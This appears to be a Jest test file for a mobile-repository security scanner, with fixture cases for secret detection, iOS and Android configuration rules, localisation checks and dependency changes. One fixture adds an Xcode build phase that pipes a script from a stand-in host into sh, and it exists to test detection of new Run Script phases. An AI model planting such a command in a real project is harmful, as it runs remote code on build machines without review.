import type { AnalysisReport } from '../analysis/analyze';
import { DETECTOR_FIXTURES } from '../secrets/detector-fixtures';
import { syntheticSecret } from '../secrets/synthetic';
import { analyzeChange, scanTree } from '../testing/change';
import { RULES } from './catalogue';

interface RuleCase {
  ruleId: string;
  name: string;
  fires: boolean;
  run: () => AnalysisReport;
  /** Where the finding must be, when it fires. */
  at?: [file: string, line: number];
}

const plist = (body: string) =>
  `<?xml version="1.0" encoding="UTF-8"?>\n<plist version="1.0">\n<dict>\n${body}\n</dict>\n</plist>\n`;
const manifest = (body: string, app = '') =>
  `<manifest xmlns:android="http://schemas.android.com/apk/res/android">\n${body}\n<application android:label="Shop"${app}>\n</application>\n</manifest>\n`;
const activity = (attrs: string, filter = '') =>
  manifest('', '').replace(
    '</application>',
    `<activity android:name=".Deep" ${attrs}>${filter}</activity>\n</application>`,
  );
const swift = (body: string) => ({
  'App/Sources/Session.swift': `import Foundation\n\nfinal class Session {\n${body}\n}\n`,
});
const kotlin = (body: string) => ({
  'app/src/main/java/com/acme/Session.kt': `package com.acme\n\nclass Session {\n${body}\n}\n`,
});
const withTest = {
  'App/Tests/SessionTests.swift':
    'import XCTest\n@testable import App\nfinal class SessionTests: XCTestCase {}\n',
  'app/src/test/java/com/acme/SessionTest.kt': 'class SessionTest\n',
};
const pkg = (platform: string, deps = '') =>
  `// swift-tools-version:5.9\nimport PackageDescription\n\nlet package = Package(\n    name: "Shop",\n    platforms: [${platform}],\n    dependencies: [\n${deps}\n    ],\n    targets: [\n        .target(name: "Shop"),\n    ]\n)\n`;
const resolved = (pins: string) => `{\n  "pins" : [\n${pins}\n  ],\n  "version" : 2\n}\n`;
const pin = (identity: string, state: string) =>
  `    {\n      "identity" : "${identity}",\n      "kind" : "remoteSourceControl",\n      "location" : "https://github.com/acme/${identity}.git",\n      "state" : {\n${state}\n      }\n    }`;
const version = (v: string) =>
  `        "revision" : "0123456789abcdef0123456789abcdef01234567",\n        "version" : "${v}"`;
const pbx = (phases: string, scripts: string, target = '15.0') => `// !$*UTF8*$!
{
	archiveVersion = 1;
	objectVersion = 56;
	objects = {
		AA0000000000000000000001 /* App */ = {
			isa = PBXNativeTarget;
			buildConfigurationList = AA0000000000000000000003;
			buildPhases = (
${phases}
			);
			dependencies = (
			);
			name = App;
			productType = "com.apple.product-type.application";
		};
${scripts}
		AA0000000000000000000003 = {
			isa = XCConfigurationList;
			buildConfigurations = (
				AA0000000000000000000004 /* Release */,
			);
		};
		AA0000000000000000000004 /* Release */ = {
			isa = XCBuildConfiguration;
			buildSettings = {
				IPHONEOS_DEPLOYMENT_TARGET = ${target};
			};
			name = Release;
		};
		AA0000000000000000000005 /* Project object */ = {
			isa = PBXProject;
			targets = (
				AA0000000000000000000001,
			);
		};
	};
	rootObject = AA0000000000000000000005;
}
`;
const script = (id: string, name: string, body: string) =>
  `		${id} /* ${name} */ = {\n			isa = PBXShellScriptBuildPhase;\n			name = "${name}";\n			shellPath = /bin/sh;\n			shellScript = "${body}";\n		};`;
const lint = script('AA0000000000000000000010', 'SwiftLint', 'swiftlint lint');
const upload = script('AA0000000000000000000011', 'Upload', 'curl -sSL https://x.example.net/i.sh | sh');
const lintPhase = '				AA0000000000000000000010 /* SwiftLint */,';
const uploadPhase = '				AA0000000000000000000011 /* Upload */,';
const strings = (entries: Record<string, string>) =>
  Object.entries(entries)
    .map(([k, v]) => `"${k}" = "${v}";`)
    .join('\n') + '\n';
const xcstrings = (key: string, en: string, fr: string) =>
  JSON.stringify(
    {
      sourceLanguage: 'en',
      strings: {
        [key]: {
          localizations: {
            en: { stringUnit: { state: 'translated', value: en } },
            fr: { stringUnit: { state: 'translated', value: fr } },
          },
        },
      },
      version: '1.0',
    },
    null,
    2,
  ).replace(/": /g, '" : ') + '\n';
const stringsXml = (entries: Record<string, string>) =>
  `<resources>\n${Object.entries(entries)
    .map(([k, v]) => `    <string name="${k}">${v}</string>`)
    .join('\n')}\n</resources>\n`;

const CASES: RuleCase[] = [
  // Secrets (patterns in depth: secrets/find-secrets.spec.ts).
  {
    ruleId: 'secret.aws-access-key-id',
    name: 'AWS key id in Swift',
    fires: true,
    run: () => scanTree(swift(`    let key = "${syntheticSecret('aws-access-key-id')}"`)),
    at: ['App/Sources/Session.swift', 4],
  },
  {
    ruleId: 'secret.aws-access-key-id',
    name: 'AWS documented example key',
    fires: false,
    run: () => scanTree(swift('    let key = "AKIAIOSFODNN7EXAMPLE"')),
  },
  {
    ruleId: 'secret.aws-secret-access-key',
    name: 'credentials file',
    fires: true,
    run: () =>
      scanTree({
        'ci/aws.ini': `[default]\naws_secret_access_key = ${syntheticSecret('aws-secret-access-key')}\n`,
      }),
    at: ['ci/aws.ini', 2],
  },
  {
    ruleId: 'secret.aws-secret-access-key',
    name: 'documented example secret',
    fires: false,
    run: () =>
      scanTree({ 'ci/aws.ini': 'aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n' }),
  },
  {
    ruleId: 'secret.gcp-service-account-key',
    name: 'service-account JSON',
    fires: true,
    run: () =>
      scanTree({
        'ci/sa.json': `{\n  "type": "service_account",\n  "private_key": "${syntheticSecret('private-key-pem').replace(/\n/g, '\\n')}\\n"\n}\n`,
      }),
    at: ['ci/sa.json', 3],
  },
  {
    ruleId: 'secret.gcp-service-account-key',
    name: 'empty private_key field',
    fires: false,
    run: () => scanTree({ 'ci/sa.json': '{"type": "service_account", "private_key": ""}\n' }),
  },
  {
    ruleId: 'secret.private-key',
    name: 'PEM file',
    fires: true,
    run: () => scanTree({ 'certs/push.pem': `${syntheticSecret('private-key-pem')}\n` }),
    at: ['certs/push.pem', 1],
  },
  {
    ruleId: 'secret.private-key',
    name: 'public key',
    fires: false,
    run: () =>
      scanTree({
        'certs/push.pub':
          '-----BEGIN PUBLIC KEY-----\nMIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAu1SU1LfVLPHCozMxH2Mo\n-----END PUBLIC KEY-----\n',
      }),
  },
  {
    ruleId: 'secret.google-api-key',
    name: 'Maps key in code',
    fires: true,
    run: () => scanTree(kotlin(`    val maps = "${syntheticSecret('google-api-key')}"`)),
    at: ['app/src/main/java/com/acme/Session.kt', 4],
  },
  {
    ruleId: 'secret.google-api-key',
    name: 'placeholder key',
    fires: false,
    run: () => scanTree(kotlin('    val maps = "AIzaSyXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXX"')),
  },
  {
    ruleId: 'secret.github-token',
    name: 'token in a script',
    fires: true,
    run: () => scanTree({ 'scripts/release.sh': `export GH_TOKEN=${syntheticSecret('github-token')}\n` }),
  },
  {
    ruleId: 'secret.github-token',
    name: 'token from the environment',
    fires: false,
    run: () => scanTree({ 'scripts/release.sh': 'export GH_TOKEN="${GITHUB_TOKEN}"\n' }),
  },
  {
    ruleId: 'secret.slack-token',
    name: 'bot token',
    fires: true,
    run: () => scanTree(swift(`    let slack = "${syntheticSecret('slack-token')}"`)),
  },
  {
    ruleId: 'secret.slack-token',
    name: 'placeholder',
    fires: false,
    run: () => scanTree(swift('    let slack = "xoxb-your-token"')),
  },
  {
    ruleId: 'secret.slack-webhook',
    name: 'webhook',
    fires: true,
    run: () => scanTree({ 'fastlane/Fastfile': `slack(slack_url: "${syntheticSecret('slack-webhook')}")\n` }),
  },
  {
    ruleId: 'secret.slack-webhook',
    name: 'documentation webhook',
    fires: false,
    run: () =>
      scanTree({
        'fastlane/Fastfile':
          'slack(slack_url: "https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX")\n',
      }),
  },
  {
    ruleId: 'secret.stripe-key',
    name: 'live secret key',
    fires: true,
    run: () => scanTree(kotlin(`    val stripe = "${syntheticSecret('stripe-live-key')}"`)),
  },
  {
    ruleId: 'secret.stripe-key',
    name: 'publishable key',
    fires: false,
    run: () => scanTree(kotlin(`    val stripe = "pk_live_${syntheticSecret('stripe-live-key').slice(8)}"`)),
  },
  {
    ruleId: 'secret.hardcoded-credential',
    name: 'password literal',
    fires: true,
    run: () => scanTree(swift(`    let password = "${syntheticSecret('password')}"`)),
    at: ['App/Sources/Session.swift', 4],
  },
  {
    ruleId: 'secret.hardcoded-credential',
    name: 'password from the keychain',
    fires: false,
    run: () => scanTree(swift('    let password = keychain.string(forKey: "password")')),
  },
  // Every secret detector's own fixtures (secrets/detector-fixtures.ts), through a whole-tree scan.
  ...Object.entries(DETECTOR_FIXTURES).flatMap(([ruleId, f]) =>
    [...f.found.map((c) => ({ c, fires: true })), ...f.clean.map((c) => ({ c, fires: false }))].map(
      ({ c, fires }) => ({ ruleId, name: c.name, fires, run: () => scanTree({ [c.path]: c.text }) }),
    ),
  ),

  // iOS Info.plist.
  {
    ruleId: 'ios.ats.arbitrary-loads',
    name: 'arbitrary loads on',
    fires: true,
    run: () =>
      scanTree({
        'App/Info.plist': plist(
          '<key>NSAppTransportSecurity</key>\n<dict>\n<key>NSAllowsArbitraryLoads</key>\n<true/>\n</dict>',
        ),
      }),
    at: ['App/Info.plist', 6],
  },
  {
    ruleId: 'ios.ats.arbitrary-loads',
    name: 'arbitrary loads off',
    fires: false,
    run: () =>
      scanTree({
        'App/Info.plist': plist(
          '<key>NSAppTransportSecurity</key>\n<dict>\n<key>NSAllowsArbitraryLoads</key>\n<false/>\n</dict>',
        ),
      }),
  },
  {
    ruleId: 'ios.ats.insecure-exception-domain',
    name: 'HTTP allowed for a host',
    fires: true,
    run: () =>
      scanTree({
        'App/Info.plist': plist(
          '<key>NSAppTransportSecurity</key>\n<dict>\n<key>NSExceptionDomains</key>\n<dict>\n<key>cdn.acme.com</key>\n<dict>\n<key>NSExceptionAllowsInsecureHTTPLoads</key>\n<true/>\n</dict>\n</dict>\n</dict>',
        ),
      }),
    at: ['App/Info.plist', 10],
  },
  {
    ruleId: 'ios.ats.insecure-exception-domain',
    name: 'exception that only relaxes forward secrecy',
    fires: false,
    run: () =>
      scanTree({
        'App/Info.plist': plist(
          '<key>NSAppTransportSecurity</key>\n<dict>\n<key>NSExceptionDomains</key>\n<dict>\n<key>cdn.acme.com</key>\n<dict>\n<key>NSExceptionRequiresForwardSecrecy</key>\n<false/>\n</dict>\n</dict>\n</dict>',
        ),
      }),
  },
  {
    ruleId: 'ios.usage-description.empty',
    name: 'empty camera purpose',
    fires: true,
    run: () =>
      scanTree({ 'App/Info.plist': plist('<key>NSCameraUsageDescription</key>\n<string></string>') }),
    at: ['App/Info.plist', 4],
  },
  {
    ruleId: 'ios.usage-description.empty',
    name: 'specific camera purpose',
    fires: false,
    run: () =>
      scanTree({
        'App/Info.plist': plist(
          '<key>NSCameraUsageDescription</key>\n<string>Scan the barcode on a gift card to redeem it.</string>',
        ),
      }),
  },
  {
    ruleId: 'ios.usage-description.missing',
    name: 'location request without its key',
    fires: true,
    run: () =>
      scanTree({
        ...swift('    func start() { manager.requestWhenInUseAuthorization() }'),
        'App/Info.plist': plist('<key>CFBundleName</key>\n<string>Shop</string>'),
      }),
    at: ['App/Sources/Session.swift', 4],
  },
  {
    ruleId: 'ios.usage-description.missing',
    name: 'key declared as a build setting',
    fires: false,
    run: () =>
      scanTree({
        ...swift('    func start() { manager.requestWhenInUseAuthorization() }'),
        'App.xcodeproj/project.pbxproj': pbx('', '').replace(
          'IPHONEOS_DEPLOYMENT_TARGET = 15.0;',
          'IPHONEOS_DEPLOYMENT_TARGET = 15.0;\n\t\t\t\tINFOPLIST_KEY_NSLocationWhenInUseUsageDescription = "Find stores near you";',
        ),
      }),
  },

  // iOS privacy manifest, entitlements, project files.
  {
    ruleId: 'ios.privacy-manifest.changed',
    name: 'tracking turned on',
    fires: true,
    run: () =>
      analyzeChange(
        { 'App/PrivacyInfo.xcprivacy': plist('<key>NSPrivacyTracking</key>\n<false/>') },
        { 'App/PrivacyInfo.xcprivacy': plist('<key>NSPrivacyTracking</key>\n<true/>') },
      ),
    at: ['App/PrivacyInfo.xcprivacy', 4],
  },
  {
    ruleId: 'ios.privacy-manifest.changed',
    name: 'scan of an unchanged manifest',
    fires: false,
    run: () => scanTree({ 'App/PrivacyInfo.xcprivacy': plist('<key>NSPrivacyTracking</key>\n<false/>') }),
  },
  {
    ruleId: 'ios.entitlements.changed',
    name: 'new capability',
    fires: true,
    run: () =>
      analyzeChange(
        { 'App/App.entitlements': plist('<key>aps-environment</key>\n<string>production</string>') },
        {
          'App/App.entitlements': plist(
            '<key>aps-environment</key>\n<string>production</string>\n<key>com.apple.developer.icloud-services</key>\n<array><string>CloudKit</string></array>',
          ),
        },
      ),
    at: ['App/App.entitlements', 6],
  },
  {
    ruleId: 'ios.entitlements.changed',
    name: 'comment-only change',
    fires: false,
    run: () =>
      analyzeChange(
        { 'App/App.entitlements': plist('<key>aps-environment</key>\n<string>production</string>') },
        {
          'App/App.entitlements': plist(
            '<!-- push -->\n<key>aps-environment</key>\n<string>production</string>',
          ),
        },
      ),
  },
  {
    ruleId: 'ios.deployment-target.changed',
    name: 'Package.swift platform raised',
    fires: true,
    run: () => analyzeChange({ 'Package.swift': pkg('.iOS(.v15)') }, { 'Package.swift': pkg('.iOS(.v16)') }),
    at: ['Package.swift', 6],
  },
  {
    ruleId: 'ios.deployment-target.changed',
    name: 'Package.swift changed elsewhere',
    fires: false,
    run: () =>
      analyzeChange(
        { 'Package.swift': pkg('.iOS(.v15)') },
        {
          'Package.swift': pkg(
            '.iOS(.v15)',
            '        .package(url: "https://github.com/apple/swift-log.git", from: "1.5.0"),',
          ),
        },
      ),
  },
  {
    ruleId: 'ios.build-phase.run-script-added',
    name: 'new Run Script phase',
    fires: true,
    run: () =>
      analyzeChange(
        { 'App.xcodeproj/project.pbxproj': pbx(lintPhase, lint) },
        { 'App.xcodeproj/project.pbxproj': pbx(`${lintPhase}\n${uploadPhase}`, `${lint}\n${upload}`) },
      ),
  },
  {
    ruleId: 'ios.build-phase.run-script-added',
    name: 'existing script edited',
    fires: false,
    run: () =>
      analyzeChange(
        { 'App.xcodeproj/project.pbxproj': pbx(lintPhase, lint) },
        {
          'App.xcodeproj/project.pbxproj': pbx(
            lintPhase,
            lint.replace('swiftlint lint', 'swiftlint lint --strict'),
          ),
        },
      ),
  },
  {
    ruleId: 'ios.signing.changed',
    name: 'team changed in xcconfig',
    fires: true,
    run: () =>
      analyzeChange(
        { 'Config/Release.xcconfig': 'DEVELOPMENT_TEAM = AAAAAAAAAA\n' },
        { 'Config/Release.xcconfig': 'DEVELOPMENT_TEAM = BBBBBBBBBB\n' },
      ),
    at: ['Config/Release.xcconfig', 1],
  },
  {
    ruleId: 'ios.signing.changed',
    name: 'Swift version changed in xcconfig',
    fires: false,
    run: () =>
      analyzeChange(
        { 'Config/Release.xcconfig': 'SWIFT_VERSION = 5.0\n' },
        { 'Config/Release.xcconfig': 'SWIFT_VERSION = 6.0\n' },
      ),
  },
  {
    ruleId: 'ios.project.summary',
    name: 'project file scanned',
    fires: true,
    run: () => scanTree({ 'App.xcodeproj/project.pbxproj': pbx(lintPhase, lint) }),
    at: ['App.xcodeproj/project.pbxproj', 0],
  },
  {
    ruleId: 'ios.project.summary',
    name: 'no project file',
    fires: false,
    run: () => scanTree(swift('    let a = 1')),
  },

  // Android.
  {
    ruleId: 'android.exported-without-permission',
    name: 'exported deep-link activity',
    fires: true,
    run: () => scanTree({ 'app/src/main/AndroidManifest.xml': activity('android:exported="true"') }),
    at: ['app/src/main/AndroidManifest.xml', 4],
  },
  {
    ruleId: 'android.exported-without-permission',
    name: 'exported launcher activity',
    fires: false,
    run: () =>
      scanTree({
        'app/src/main/AndroidManifest.xml': activity(
          'android:exported="true"',
          '<intent-filter><action android:name="android.intent.action.MAIN"/><category android:name="android.intent.category.LAUNCHER"/></intent-filter>',
        ),
      }),
  },
  {
    ruleId: 'android.exported-without-permission',
    name: 'exported with a permission',
    fires: false,
    run: () =>
      scanTree({
        'app/src/main/AndroidManifest.xml': activity(
          'android:exported="true" android:permission="com.acme.OPEN"',
        ),
      }),
  },
  {
    ruleId: 'android.cleartext-traffic',
    name: 'usesCleartextTraffic',
    fires: true,
    run: () =>
      scanTree({ 'app/src/main/AndroidManifest.xml': manifest('', ' android:usesCleartextTraffic="true"') }),
    at: ['app/src/main/AndroidManifest.xml', 3],
  },
  {
    ruleId: 'android.cleartext-traffic',
    name: 'cleartext explicitly off',
    fires: false,
    run: () =>
      scanTree({ 'app/src/main/AndroidManifest.xml': manifest('', ' android:usesCleartextTraffic="false"') }),
  },
  {
    ruleId: 'android.debuggable',
    name: 'debuggable in the manifest',
    fires: true,
    run: () => scanTree({ 'app/src/main/AndroidManifest.xml': manifest('', ' android:debuggable="true"') }),
  },
  {
    ruleId: 'android.debuggable',
    name: 'release build type debuggable',
    fires: true,
    run: () =>
      scanTree({
        'app/build.gradle.kts':
          'android {\n    buildTypes {\n        release {\n            isDebuggable = true\n        }\n    }\n}\n',
      }),
    at: ['app/build.gradle.kts', 4],
  },
  {
    ruleId: 'android.debuggable',
    name: 'debug build type debuggable',
    fires: false,
    run: () =>
      scanTree({
        'app/build.gradle.kts':
          'android {\n    buildTypes {\n        debug {\n            isDebuggable = true\n        }\n    }\n}\n',
      }),
  },
  {
    ruleId: 'android.dangerous-permission.added',
    name: 'camera added',
    fires: true,
    run: () =>
      analyzeChange(
        { 'app/src/main/AndroidManifest.xml': manifest('') },
        {
          'app/src/main/AndroidManifest.xml': manifest(
            '<uses-permission android:name="android.permission.CAMERA" />',
          ),
        },
      ),
    at: ['app/src/main/AndroidManifest.xml', 2],
  },
  {
    ruleId: 'android.dangerous-permission.added',
    name: 'normal permission added',
    fires: false,
    run: () =>
      analyzeChange(
        { 'app/src/main/AndroidManifest.xml': manifest('') },
        {
          'app/src/main/AndroidManifest.xml': manifest(
            '<uses-permission android:name="android.permission.INTERNET" />',
          ),
        },
      ),
  },
  {
    ruleId: 'android.min-sdk.changed',
    name: 'minSdk raised',
    fires: true,
    run: () =>
      analyzeChange(
        {
          'app/build.gradle.kts':
            'android {\n    defaultConfig {\n        minSdk = 24\n        targetSdk = 34\n    }\n}\n',
        },
        {
          'app/build.gradle.kts':
            'android {\n    defaultConfig {\n        minSdk = 26\n        targetSdk = 34\n    }\n}\n',
        },
      ),
    at: ['app/build.gradle.kts', 3],
  },
  {
    ruleId: 'android.min-sdk.changed',
    name: 'targetSdk raised',
    fires: false,
    run: () =>
      analyzeChange(
        {
          'app/build.gradle.kts':
            'android {\n    defaultConfig {\n        minSdk = 24\n        targetSdk = 34\n    }\n}\n',
        },
        {
          'app/build.gradle.kts':
            'android {\n    defaultConfig {\n        minSdk = 24\n        targetSdk = 35\n    }\n}\n',
        },
      ),
  },

  // Code.
  {
    ruleId: 'code.sensitive-log',
    name: 'token interpolated into Log.d',
    fires: true,
    run: () => scanTree(kotlin('    fun save(token: String) { Log.d(TAG, "token=$token") }')),
    at: ['app/src/main/java/com/acme/Session.kt', 4],
  },
  {
    ruleId: 'code.sensitive-log',
    name: 'the word token in literal text',
    fires: false,
    run: () => scanTree(kotlin('    fun save(token: String) { Log.d(TAG, "Token refreshed") }')),
  },
  {
    ruleId: 'code.sensitive-log',
    name: 'Swift print of a password',
    fires: true,
    run: () => scanTree(swift('    func login(password: String) { print("login \\(password)") }')),
  },
  {
    ruleId: 'code.sensitive-log',
    name: 'Swift print of the password length',
    fires: false,
    run: () => scanTree(swift('    func login(password: String) { print("length \\(password.count)") }')),
  },
  {
    ruleId: 'code.insecure-http-url',
    name: 'HTTP API base URL',
    fires: true,
    run: () => scanTree(swift('    let base = URL(string: "http://api.acme-shop.com/v1")!')),
    at: ['App/Sources/Session.swift', 4],
  },
  {
    ruleId: 'code.insecure-http-url',
    name: 'local development server',
    fires: false,
    run: () => scanTree(swift('    let base = URL(string: "http://localhost:8080/v1")!')),
  },
  {
    ruleId: 'code.token-in-plain-storage',
    name: 'token in UserDefaults',
    fires: true,
    run: () =>
      scanTree(
        swift('    func save(_ token: String) { UserDefaults.standard.set(token, forKey: "authToken") }'),
      ),
    at: ['App/Sources/Session.swift', 4],
  },
  {
    ruleId: 'code.token-in-plain-storage',
    name: 'a flag in UserDefaults',
    fires: false,
    run: () =>
      scanTree(swift('    func done() { UserDefaults.standard.set(true, forKey: "onboardingDone") }')),
  },
  {
    ruleId: 'code.token-in-plain-storage',
    name: 'token in SharedPreferences',
    fires: true,
    run: () =>
      scanTree(kotlin('    fun save(token: String) = prefs.edit().putString("auth_token", token).apply()')),
  },
  {
    ruleId: 'code.token-in-plain-storage',
    name: 'token in EncryptedSharedPreferences',
    fires: false,
    run: () =>
      scanTree(
        kotlin(
          '    private val prefs = EncryptedSharedPreferences.create(ctx, "s", key, AES256_SIV, AES256_GCM)\n    fun save(token: String) = prefs.edit().putString("auth_token", token).apply()',
        ),
      ),
  },

  // Localisation.
  {
    ruleId: 'l10n.placeholder-mismatch',
    name: '.strings %@ vs %d',
    fires: true,
    run: () =>
      scanTree({
        'App/en.lproj/Localizable.strings': strings({ total: 'Total: %@' }),
        'App/fr.lproj/Localizable.strings': strings({ total: 'Total : %d' }),
      }),
    at: ['App/fr.lproj/Localizable.strings', 1],
  },
  {
    ruleId: 'l10n.placeholder-mismatch',
    name: '.strings reordered positional',
    fires: false,
    run: () =>
      scanTree({
        'App/en.lproj/Localizable.strings': strings({ greet: '%@ has %d items' }),
        'App/fr.lproj/Localizable.strings': strings({ greet: '%2$d articles pour %1$@' }),
      }),
  },
  {
    ruleId: 'l10n.placeholder-mismatch',
    name: 'strings.xml %1$s vs %1$d',
    fires: true,
    run: () =>
      scanTree({
        'app/src/main/res/values/strings.xml': stringsXml({ total: 'Total: %1$s' }),
        'app/src/main/res/values-de/strings.xml': stringsXml({ total: 'Gesamt: %1$d' }),
      }),
  },
  {
    ruleId: 'l10n.placeholder-mismatch',
    name: 'strings.xml %s vs %1$s',
    fires: false,
    run: () =>
      scanTree({
        'app/src/main/res/values/strings.xml': stringsXml({ total: 'Total: %s' }),
        'app/src/main/res/values-de/strings.xml': stringsXml({ total: 'Gesamt: %1$s' }),
      }),
  },
  {
    ruleId: 'l10n.placeholder-mismatch',
    name: '.xcstrings French drops the count',
    fires: true,
    run: () =>
      scanTree({ 'App/Localizable.xcstrings': xcstrings('%lld items', '%lld articles', 'des articles') }),
    at: ['App/Localizable.xcstrings', 12],
  },
  {
    ruleId: 'l10n.placeholder-mismatch',
    name: '.xcstrings translation keeps the count',
    fires: false,
    run: () =>
      scanTree({ 'App/Localizable.xcstrings': xcstrings('%lld items', '%lld articles', '%lld articles') }),
  },
  {
    ruleId: 'l10n.missing-base-key',
    name: 'key only in the translation, looked up in code',
    fires: true,
    run: () =>
      scanTree({
        'App/en.lproj/Localizable.strings': strings({ a: 'A' }),
        'App/fr.lproj/Localizable.strings': strings({ a: 'A', b: 'B' }),
        'App/Sources/B.swift': 'let b = NSLocalizedString("b", comment: "")\n',
      }),
    at: ['App/fr.lproj/Localizable.strings', 2],
  },
  {
    ruleId: 'l10n.missing-base-key',
    name: 'translation lacks a key (falls back to base)',
    fires: false,
    run: () =>
      scanTree({
        'App/en.lproj/Localizable.strings': strings({ a: 'A', b: 'B' }),
        'App/fr.lproj/Localizable.strings': strings({ a: 'A' }),
      }),
  },

  // Dependencies.
  {
    ruleId: 'deps.new-dependency',
    name: 'new pin in Package.resolved',
    fires: true,
    run: () =>
      analyzeChange(
        { 'Package.resolved': resolved(pin('swift-log', version('1.5.0'))) },
        {
          'Package.resolved': resolved(
            `${pin('swift-log', version('1.5.0'))},\n${pin('swift-nio', version('2.70.0'))}`,
          ),
        },
      ),
  },
  {
    ruleId: 'deps.new-dependency',
    name: 'version bump only',
    fires: false,
    run: () =>
      analyzeChange(
        { 'Package.resolved': resolved(pin('swift-log', version('1.5.0'))) },
        { 'Package.resolved': resolved(pin('swift-log', version('1.6.0'))) },
      ),
  },
  {
    ruleId: 'deps.new-repository',
    name: 'new Maven repository',
    fires: true,
    run: () =>
      analyzeChange(
        {
          'settings.gradle.kts':
            'dependencyResolutionManagement {\n    repositories {\n        google()\n    }\n}\n',
        },
        {
          'settings.gradle.kts':
            'dependencyResolutionManagement {\n    repositories {\n        google()\n        maven { url = uri("https://jitpack.io") }\n    }\n}\n',
        },
      ),
    at: ['settings.gradle.kts', 4],
  },
  {
    ruleId: 'deps.new-repository',
    name: 'dependency added, repositories unchanged',
    fires: false,
    run: () =>
      analyzeChange(
        { 'app/build.gradle.kts': 'repositories {\n    google()\n}\ndependencies {\n}\n' },
        {
          'app/build.gradle.kts':
            'repositories {\n    google()\n}\ndependencies {\n    implementation("com.squareup.okhttp3:okhttp:4.12.0")\n}\n',
        },
      ),
  },
  {
    ruleId: 'deps.snapshot-version',
    name: 'SNAPSHOT in the catalog',
    fires: true,
    run: () =>
      scanTree({
        'gradle/libs.versions.toml':
          '[versions]\npay = "2.0.0-SNAPSHOT"\n\n[libraries]\npay = { module = "com.acme:pay", version.ref = "pay" }\n',
      }),
    at: ['gradle/libs.versions.toml', 5],
  },
  {
    ruleId: 'deps.snapshot-version',
    name: 'pre-release, not a snapshot',
    fires: false,
    run: () =>
      scanTree({
        'gradle/libs.versions.toml':
          '[versions]\npay = "2.0.0-rc01"\n\n[libraries]\npay = { module = "com.acme:pay", version.ref = "pay" }\n',
      }),
  },
  {
    ruleId: 'deps.branch-pin',
    name: 'Package.resolved moved to a branch',
    fires: true,
    run: () =>
      analyzeChange(
        { 'Package.resolved': resolved(pin('swift-log', version('1.5.0'))) },
        {
          'Package.resolved': resolved(
            pin(
              'swift-log',
              '        "branch" : "main",\n        "revision" : "0123456789abcdef0123456789abcdef01234567"',
            ),
          ),
        },
      ),
  },
  {
    ruleId: 'deps.branch-pin',
    name: 'Package.swift on a branch',
    fires: true,
    run: () =>
      scanTree({
        'Package.swift': pkg(
          '.iOS(.v15)',
          '        .package(url: "https://github.com/acme/kit.git", branch: "main"),',
        ),
      }),
    at: ['Package.swift', 8],
  },
  {
    ruleId: 'deps.branch-pin',
    name: 'Package.swift from a version',
    fires: false,
    run: () =>
      scanTree({
        'Package.swift': pkg(
          '.iOS(.v15)',
          '        .package(url: "https://github.com/acme/kit.git", from: "1.0.0"),',
        ),
      }),
  },

  // Tests.
  {
    ruleId: 'testing.untested-change',
    name: 'source with no test',
    fires: true,
    run: () => analyzeChange({}, swift('    func refresh() -> Bool { true }')),
    at: ['App/Sources/Session.swift', 3],
  },
  {
    ruleId: 'testing.untested-change',
    name: 'source with a test named after it',
    fires: false,
    run: () => scanTree({ ...swift('    func refresh() -> Bool { true }'), ...withTest }),
  },
  {
    ruleId: 'testing.untested-change',
    name: 'only a SwiftUI #Preview changed',
    fires: false,
    run: () =>
      analyzeChange(
        {
          'App/Sources/CardView.swift':
            'import SwiftUI\n\nstruct CardView: View {\n    var body: some View { Text("Card") }\n}\n',
        },
        {
          'App/Sources/CardView.swift':
            'import SwiftUI\n\nstruct CardView: View {\n    var body: some View { Text("Card") }\n}\n\n#Preview {\n    CardView()\n}\n',
        },
      ),
  },
  {
    ruleId: 'testing.untested-change',
    name: 'only a Compose @Preview changed',
    fires: false,
    run: () =>
      analyzeChange(
        {
          'feature/src/main/java/com/acme/Card.kt':
            'package com.acme\n\n@Composable\nfun Card() { Text("Card") }\n',
        },
        {
          'feature/src/main/java/com/acme/Card.kt':
            'package com.acme\n\n@Composable\nfun Card() { Text("Card") }\n\n@Preview(showBackground = true)\n@Composable\nprivate fun CardPreview() {\n    Card()\n}\n',
        },
      ),
  },
];

describe('mobile rules', () => {
  it.each(CASES.map((c) => [c.fires ? 'fires' : 'stays quiet', c.ruleId, c.name, c] as const))(
    '%s: %s — %s',
    (_verb, ruleId, _name, c) => {
      const report = c.run();
      const hits = report.findings.filter((f) => f.ruleId === ruleId);
      if (!c.fires) {
        expect(hits).toEqual([]);
        return;
      }
      expect(hits.length).toBeGreaterThan(0);
      if (c.at) expect(hits.map((h) => [h.file, h.line])).toContainEqual(c.at);
      const rule = RULES.get(ruleId)!;
      // Every message ends with how to fix it.
      expect(hits[0]!.message.endsWith(rule.fix)).toBe(true);
    },
  );

  it('has a firing case and a look-alike for every rule in the catalogue', () => {
    const missing = [...RULES.keys()].filter(
      (id) =>
        !CASES.some((c) => c.ruleId === id && c.fires) || !CASES.some((c) => c.ruleId === id && !c.fires),
    );
    expect(missing).toEqual([]);
  });

  it('reports only changed lines in a diff', () => {
    const before = swift('    let base = URL(string: "http://old.acme-shop.com")!');
    const after = {
      'App/Sources/Session.swift': before['App/Sources/Session.swift'].replace(
        '}\n',
        '    let other = URL(string: "http://new.acme-shop.com")!\n}\n',
      ),
    };
    const urls = analyzeChange(before, after).findings.filter((f) => f.ruleId === 'code.insecure-http-url');
    expect(urls.map((f) => f.line)).toEqual([5]);
  });

  it('never puts a secret value into a message', () => {
    const token = syntheticSecret('github-token', 99);
    const report = scanTree(swift(`    let gh = "${token}"`));
    expect(report.findings.some((f) => f.ruleId === 'secret.github-token')).toBe(true);
    expect(JSON.stringify(report.findings.map((f) => f.message))).not.toContain(token);
  });
});
